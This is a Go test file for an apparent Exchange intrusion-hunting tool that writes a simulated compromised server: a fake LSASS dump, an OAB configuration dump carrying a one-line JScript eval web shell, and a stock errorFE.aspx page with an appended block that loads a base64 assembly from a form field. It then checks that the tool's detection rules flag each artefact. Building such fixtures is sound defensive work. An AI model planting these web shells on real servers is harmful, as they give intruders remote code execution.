package hunt

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/exsweep/exsweep/internal/minidump/minidumptest"
	"github.com/exsweep/exsweep/internal/peversion/peversiontest"
)

// exampleHost is the example server shipped in examples/ (the README's first command).
const exampleHost = "../../examples/compromised-host"

// exampleFiles are the files the example's intruder left on disk, and the one Exchange file
// that says its build; binary ones are generated so that nobody has to trust a committed blob.
// The story: the OAB virtual directory reset of 07:14 wrote its property dump, script and all,
// as Kq8ZtY3w.aspx into aspnet_client (27065); the LSASS dump of 07:23 went to C:\root; and
// the intruder appended a hidden block to Exchange's own errorFE.aspx, a page that must be
// restored, not deleted. ExSetup.exe is Exchange 2016 CU19 without the March 2021 update.
func exampleFiles() map[string][]byte {
	exsetup := peversiontest.Build(peversiontest.Spec{Versions: []peversiontest.Version{{
		FileVersion:    [4]uint16{15, 1, 2176, 2},
		ProductVersion: [4]uint16{15, 1, 2176, 2},
		Tables: []peversiontest.Table{{Key: "040904B0", Strings: []peversiontest.String{
			{Key: "CompanyName", Value: "Microsoft Corporation"},
			{Key: "FileDescription", Value: "ExSetup"},
			{Key: "FileVersion", Value: "15.01.2176.002"},
			{Key: "ProductName", Value: "Microsoft® Exchange"},
			{Key: "ProductVersion", Value: "15.01.2176.002"},
		}}},
	}}})
	dump := minidumptest.LSASS()
	dump.Time = time.Date(2021, 3, 3, 7, 23, 38, 0, time.UTC)
	const oabDump = "Name                            : OAB (Default Web Site)\r\n" +
		"Server                          : EX01\r\n" +
		"InternalUrl                     : https://ex01.corp.example/OAB\r\n" +
		"ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>\r\n" +
		"RequireSSL                      : False\r\n" +
		"PollInterval                    : 480\r\n"
	const errorFE = "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" Inherits=\"Microsoft.Exchange.HttpProxy.ErrorFE\" %>\r\n" +
		"<!DOCTYPE html>\r\n<html>\r\n<head><title>Outlook</title></head>\r\n" +
		"<body><div class=\"error\"><%= this.ErrorMessage %></div></body>\r\n</html>\r\n" +
		"<script runat=\"server\">void Page_Init(object s, EventArgs e){ if (Request.Form[\"ki\"] != null) " +
		"System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form[\"ki\"])).CreateInstance(\"P\").Equals(this); }</script>\r\n"
	return map[string][]byte{
		"Program Files/Microsoft/Exchange Server/V15/Bin/ExSetup.exe": exsetup,
		"inetpub/wwwroot/aspnet_client/system_web/Kq8ZtY3w.aspx":      []byte(oabDump),
		"root/lsass.dmp": minidumptest.Build(dump),
		"Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/errorFE.aspx": []byte(errorFE),
		"Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/logon.aspx":   []byte("<%@ Page Language=\"C#\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n<html><head><title>Outlook</title></head><body><form action=\"/owa/auth.owa\" method=\"POST\"></form></body></html>\r\n"),
	}
}

func TestExampleHostFiles(t *testing.T) {
	for name, want := range exampleFiles() {
		p := filepath.Join(exampleHost, filepath.FromSlash(name))
		if *updateQuality {
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p, want, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		got, err := os.ReadFile(p)
		if err != nil || !bytes.Equal(got, want) {
			t.Errorf("%s differs from what exampleFiles writes (err %v): run go test ./internal/hunt -run ExampleHostFiles -update", p, err)
		}
	}
	res := hunt(t, Options{Root: exampleHost})
	if len(res.Builds) != 1 || res.Builds[0].Build != "15.1.2176.2" {
		t.Errorf("example build %+v, want 15.1.2176.2 from ExSetup.exe", res.Builds)
	}
	for _, rule := range []string{"EXS-FILE-ASPNETCLIENT-PAGE", "EXS-FILE-OAB-DUMP-SCRIPT", "EXS-FILE-LSASS-DUMP", "EXS-FILE-ASSEMBLY-FROM-BASE64"} {
		if len(findingsOf(res, rule)) == 0 {
			t.Errorf("example: no %s", rule)
		}
	}
	for _, f := range findingsOf(res, "EXS-FILE-OWA-AUTH-UNKNOWN-PAGE") {
		t.Errorf("example: Exchange's own page flagged as unknown: %s", f.Where.Path)
	}
}
